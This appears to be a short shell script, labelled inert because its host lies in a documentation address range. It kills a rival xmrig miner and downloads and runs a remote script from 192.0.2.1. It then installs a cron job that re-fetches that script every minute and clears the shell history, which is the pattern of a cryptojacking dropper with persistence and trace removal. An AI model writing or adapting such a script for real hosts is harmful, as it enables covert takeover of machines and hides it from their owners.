#!/bin/sh
# Inert: 192.0.2.0/24 belongs to nobody.
pkill -f xmrig
curl -fsSL http://192.0.2.1/run.sh | sh
(crontab -l; echo "* * * * * curl -fsSL http://192.0.2.1/run.sh | sh") | crontab - 
history -c
